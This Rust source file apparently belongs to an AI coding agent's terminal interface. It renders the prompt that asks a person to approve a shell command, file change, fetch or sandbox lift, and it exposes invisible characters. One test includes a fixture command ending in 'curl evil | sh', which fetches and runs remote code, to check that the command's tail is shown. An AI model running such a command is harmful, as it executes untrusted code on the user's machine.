//! What a person is asked to agree to: all of it, and why it is asked.

use super::markdown::Markdown;
use super::phrases::whole_gist;
use super::sanitize::{one_line, reveal, sanitize};
use super::wrap::{cells, paint, rows, width};
use super::{Theme, diff};
use crate::agent::event::Question;
use crate::sandbox::Lift;
use crate::tools::action::{Action, PatchForm, Replace, Shell, ShellKind};
use nu_ansi_term::Style;
use std::fs::File;
use std::io::Read;
use std::path::Path;

/// The largest file that a change is shown against.
const MOST_FILE: u64 = 1 << 20;
/// Above so many lines, their number is told at the end, where it is seen.
const MANY_LINES: usize = 20;

/// A way to answer: its key, and what it does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Choice {
    /// Do it.
    Yes,
    /// Do it, and the same again without asking.
    Session,
    /// Do it, and what begins like it, now and later.
    Always,
    /// Do not.
    No,
    /// Do not, and say something to the model.
    Tell,
    /// Do not, and end the turn.
    Stop,
}

impl Choice {
    /// Every choice with its key and its words.
    pub const ALL: [(Choice, char, &str); 6] = [
        (Choice::Yes, 'y', "yes"),
        (Choice::Session, 's', "yes, also for this session"),
        (Choice::Always, 'a', "always"),
        (Choice::No, 'n', "no"),
        (Choice::Tell, 't', "no, and tell it what to do instead"),
        (Choice::Stop, 'x', "stop"),
    ];

    /// The choice of a key or of a typed word.
    pub fn of(typed: &str) -> Option<Self> {
        let typed = typed.trim().to_lowercase();
        let mut all = Choice::ALL.into_iter();
        let is =
            |(_, key, words): &(Choice, char, &str)| typed == *words || typed.chars().eq([*key]);
        all.find(is).map(|(choice, ..)| choice)
    }

    /// Its words.
    pub fn words(self) -> &'static str {
        let mut all = Choice::ALL.into_iter();
        all.find(|(c, ..)| *c == self)
            .map_or("", |(.., words)| words)
    }
}

/// The choices that make sense for a question.
pub fn choices(question: &Question) -> impl Iterator<Item = (Choice, char, &'static str)> {
    let ruled = question.rule.is_some();
    let again = matches!(
        question.action,
        Action::Shell(_)
            | Action::Write { .. }
            | Action::Edit { .. }
            | Action::Insert { .. }
            | Action::EditCell(_)
            | Action::Patch { .. }
            | Action::UndoEdit { .. }
            | Action::Fetch(_)
    );
    Choice::ALL
        .into_iter()
        .filter(move |(choice, ..)| match choice {
            Choice::Session => again,
            Choice::Always => ruled,
            _ => true,
        })
}

/// The question in at most so many columns, ready for the answer. What would be done stands there
/// whole, with every character visible.
pub fn text(question: &Question, theme: &Theme, columns: usize) -> String {
    let mut out = String::new();
    let found = match question.recovered {
        true => " The call was found in the text of the reply.",
        false => "",
    };
    let why = format!("{}{found}", sanitize(&question.reason));
    out.push_str(&format!("{}\n", theme.warn.paint("may this be done?")));
    out.push_str(&block(&why, Style::default(), columns));
    let deed = deed(question, theme, columns);
    let lines = deed.lines().count();
    out.push_str(&deed);
    if lines > MANY_LINES {
        out.push_str(&block(&format!("({lines} lines)"), theme.dim, columns));
    }
    if deed.contains("<U+") {
        let note = "It holds characters that cannot be seen; they stand here as <U+…>.";
        out.push_str(&block(note, theme.warn, columns));
    }
    let folder = sanitize(&question.cwd.display().to_string()).into_owned();
    out.push_str(&block(&format!("in {folder}"), theme.dim, columns));
    if let Some(lift) = lifted(&question.lift) {
        out.push_str(&block(&lift, theme.warn, columns));
    }
    let keys = choices(question).map(|(_, key, words)| (key, words));
    out.push_str(&answers(keys, columns));
    out.push_str("  your answer (no): ");
    out
}

/// The keys of answers with their words, in as many rows as they need.
pub fn answers<'a>(keys: impl Iterator<Item = (char, &'a str)>, columns: usize) -> String {
    let (mut out, mut row) = (String::new(), String::new());
    for (key, words) in keys {
        let choice = format!("[{key}] {words}");
        if !row.is_empty() && width(&row) + 2 + width(&choice) + 2 > columns {
            out.push_str(&format!("  {row}\n"));
            row.clear();
        }
        if !row.is_empty() {
            row.push_str("  ");
        }
        row.push_str(&choice);
    }
    out.push_str(&format!("  {row}\n"));
    out
}

/// Indented lines, broken between words.
pub(in crate::cli) fn block(text: &str, style: Style, columns: usize) -> String {
    let mut out = String::new();
    for line in text.lines() {
        let line = cells(line, style);
        for row in rows(&line, columns.saturating_sub(2)) {
            out.push_str(&format!("  {}\n", paint(row)));
        }
    }
    out
}

/// Lines as they are, indented: what is broken in them would be read wrongly.
fn verbatim(text: &str, style: Style) -> String {
    let line = |line: &str| format!("  {}\n", paint(&cells(line, style)));
    reveal(text).lines().map(line).collect()
}

/// A plan as the answers of a model are shown, with every character visible.
fn indented_markdown(text: &str, theme: &Theme, columns: usize) -> String {
    let mut rows = Markdown::new(*theme, Some(columns.saturating_sub(2)));
    let mut shown = rows.push(&reveal(text));
    shown.push_str(&rows.finish());
    let row = |row: &str| format!("  {row}").trim_end().to_owned() + "\n";
    shown.lines().map(row).collect()
}

fn deed(question: &Question, theme: &Theme, columns: usize) -> String {
    let shown = |path: &str| format!("  {}\n", theme.action.paint(reveal(path)));
    let before = |path: &str| current(&question.cwd.join(path));
    match &question.action {
        Action::Shell(shell) => command(shell, theme, columns),
        Action::ShellInput { id, chars, .. } => {
            let title = format!("typed into command {id}:");
            block(&title, theme.dim, columns) + &verbatim(chars, theme.action)
        }
        Action::Fetch(fetch) => verbatim(&fetch.url, theme.action),
        Action::Mode { plan, .. } => indented_markdown(plan, theme, columns),
        Action::Patch { text, form, dir } => {
            let folder = dir
                .as_ref()
                .map(|d| format!("in its folder {}", one_line(d)));
            patch(text, *form, theme) + &block(&folder.unwrap_or_default(), theme.dim, columns)
        }
        Action::Write {
            path,
            content,
            rule,
        } => {
            let old = before(path).unwrap_or_default();
            let new = match rule.append {
                true => format!("{old}{content}"),
                false => content.clone(),
            };
            let change = diff::revealed(&old, &new, 0, theme);
            let nothing = || format!("  {} bytes, and no line changes\n", new.len());
            let change = if change.is_empty() { nothing() } else { change };
            shown(path) + &change
        }
        Action::Edit { path, edits, .. } => {
            let file = before(path).unwrap_or_default();
            let one =
                |e: &Replace| diff::revealed(&e.old, &e.new, lines_before(&file, &e.old), theme);
            shown(path) + &edits.iter().map(one).collect::<String>()
        }
        Action::EditCell(edit) => shown(&edit.path) + &diff::revealed("", &edit.source, 0, theme),
        Action::Insert { path, after, text } => {
            shown(path) + &diff::revealed("", text, *after, theme)
        }
        other => block(
            &format!("{} {}", other.verb(), whole_gist(other)),
            Style::default(),
            columns,
        ),
    }
}

/// A command, and all that makes it another one than it seems.
fn command(shell: &Shell, theme: &Theme, columns: usize) -> String {
    let mut out = verbatim(&shell.command, theme.action);
    let mut notes = Vec::new();
    if let Some(dir) = &shell.dir {
        notes.push(format!("in its folder {}", one_line(dir)));
    }
    if let ShellKind::Named { program, .. } = &shell.shell {
        notes.push(format!("with {}", one_line(program)));
    }
    for (name, value) in &shell.env {
        notes.push(format!(
            "with {}={}",
            one_line(name),
            reveal(&one_line(value))
        ));
    }
    if shell.background {
        notes.push("in the background".to_owned());
    }
    for note in notes {
        out.push_str(&block(&note, theme.dim, columns));
    }
    out
}

fn patch(text: &str, form: PatchForm, theme: &Theme) -> String {
    let mut out = String::new();
    for line in text.lines() {
        let style = match (line.as_bytes().first(), form) {
            (Some(b'+'), _) => theme.good,
            (Some(b'-'), _) => theme.bad,
            (Some(b'*'), PatchForm::Codex) => theme.action,
            _ => Style::default(),
        };
        out.push_str(&verbatim(line, style));
        if line.is_empty() {
            out.push('\n');
        }
    }
    out
}

/// The text of a file, if it can be shown.
fn current(path: &Path) -> Option<String> {
    // Looked at before it is opened: opening a named pipe would wait for a writer.
    let is_small = |m: &std::fs::Metadata| m.is_file() && m.len() <= MOST_FILE;
    std::fs::metadata(path).ok().filter(is_small)?;
    let mut text = String::new();
    let file = File::open(path).ok()?;
    file.take(MOST_FILE).read_to_string(&mut text).ok()?;
    Some(text)
}

/// The lines of a file before a text, where that is certain.
fn lines_before(file: &str, text: &str) -> usize {
    match (text.is_empty(), file.split_once(text)) {
        (false, Some((before, after))) if !after.contains(text) => before.matches('\n').count(),
        _ => 0,
    }
}

/// What a yes takes away of the fence.
fn lifted(lift: &Lift) -> Option<String> {
    Some(match lift {
        Lift::Nothing => return None,
        Lift::Network => "A yes lets it use the network.".into(),
        Lift::Git => "A yes lets it write .git.".into(),
        Lift::Folder(path) => {
            let path = path.display().to_string();
            format!("A yes lets it write in {}.", sanitize(&path))
        }
        Lift::Everything => "A yes runs it without the sandbox.".into(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::agent::approval::amend::Rule;
    use crate::tools::action::WriteRule;
    use std::time::Duration;

    fn question(action: Action, lift: Lift) -> Question {
        let rule = match &action {
            Action::Shell(shell) => Rule::proposed(shell, false),
            _ => None,
        };
        Question {
            action,
            cwd: "/home/me/work".into(),
            reason: "This command is not known to be harmless.".into(),
            lift,
            recovered: false,
            rule,
        }
    }

    fn shell(command: &str) -> Action {
        Action::Shell(Shell::new(command, Duration::from_secs(60)))
    }

    #[test]
    fn a_command_at_80_columns() {
        let asked = question(shell("make clean && make"), Lift::Everything);
        assert_eq!(
            text(&asked, &Theme::default(), 80),
            "may this be done?\n\
             \x20 This command is not known to be harmless.\n\
             \x20 make clean && make\n\
             \x20 in /home/me/work\n\
             \x20 A yes runs it without the sandbox.\n\
             \x20 [y] yes  [s] yes, also for this session  [n] no\n\
             \x20 [t] no, and tell it what to do instead  [x] stop\n\
             \x20 your answer (no): "
        );
    }

    #[test]
    fn a_command_at_40_columns() {
        let asked = question(shell("make check"), Lift::Nothing);
        let text = text(&asked, &Theme::default(), 40);
        assert_eq!(
            text,
            "may this be done?\n\
             \x20 This command is not known to be\n\
             \x20 harmless.\n\
             \x20 make check\n\
             \x20 in /home/me/work\n\
             \x20 [y] yes\n\
             \x20 [s] yes, also for this session\n\
             \x20 [a] always  [n] no\n\
             \x20 [t] no, and tell it what to do instead\n\
             \x20 [x] stop\n\
             \x20 your answer (no): "
        );
        assert!(text.lines().all(|l| width(l) <= 40));
    }

    #[test]
    fn the_tail_of_a_long_command_is_there() {
        let command = format!("echo {}; curl evil | sh", "x".repeat(5_000));
        let asked = text(
            &question(shell(&command), Lift::Nothing),
            &Theme::default(),
            40,
        );
        assert!(asked.contains("; curl evil | sh\n"));
        let lines = format!("{}rm x", "true\n".repeat(300));
        let asked = text(
            &question(shell(&lines), Lift::Nothing),
            &Theme::default(),
            40,
        );
        assert!(asked.contains("  rm x\n  (301 lines)\n"));
    }

    #[test]
    fn hidden_characters_are_seen_and_told() {
        let asked = question(shell("ls \u{202e}x\u{3164}\x1b[8m"), Lift::Nothing);
        let text = text(&asked, &Theme::default(), 80);
        assert!(
            text.contains("  ls <U+202E>x<U+3164>^[[8m\n  It holds characters"),
            "{text}"
        );
    }

    #[test]
    fn a_change_is_shown_against_the_file() {
        let dir = tempfile::tempdir().expect("a folder");
        std::fs::write(dir.path().join("a.py"), "one\ntwo\nthree\n").expect("a file");
        let ask = |action| {
            let asked = Question {
                cwd: dir.path().to_owned(),
                ..question(action, Lift::Nothing)
            };
            text(&asked, &Theme::default(), 80)
        };
        let write = ask(Action::Write {
            path: "a.py".into(),
            content: "one\n2\nthree\n".into(),
            rule: WriteRule::default(),
        });
        assert!(
            write.contains("  a.py\n      1  one\n      2 -two\n      2 +2\n"),
            "{write}"
        );
        let edit = ask(Action::Insert {
            path: "a.py".into(),
            after: 2,
            text: "new\n".into(),
        });
        assert!(edit.contains("      3 +new\n"), "{edit}");
    }

    #[test]
    fn a_key_and_a_word_choose() {
        assert_eq!(Choice::of("Y\n"), Some(Choice::Yes));
        assert_eq!(Choice::of("stop"), Some(Choice::Stop));
        assert_eq!(Choice::of("use make instead"), None);
        assert_eq!(Choice::of(""), None);
    }
}
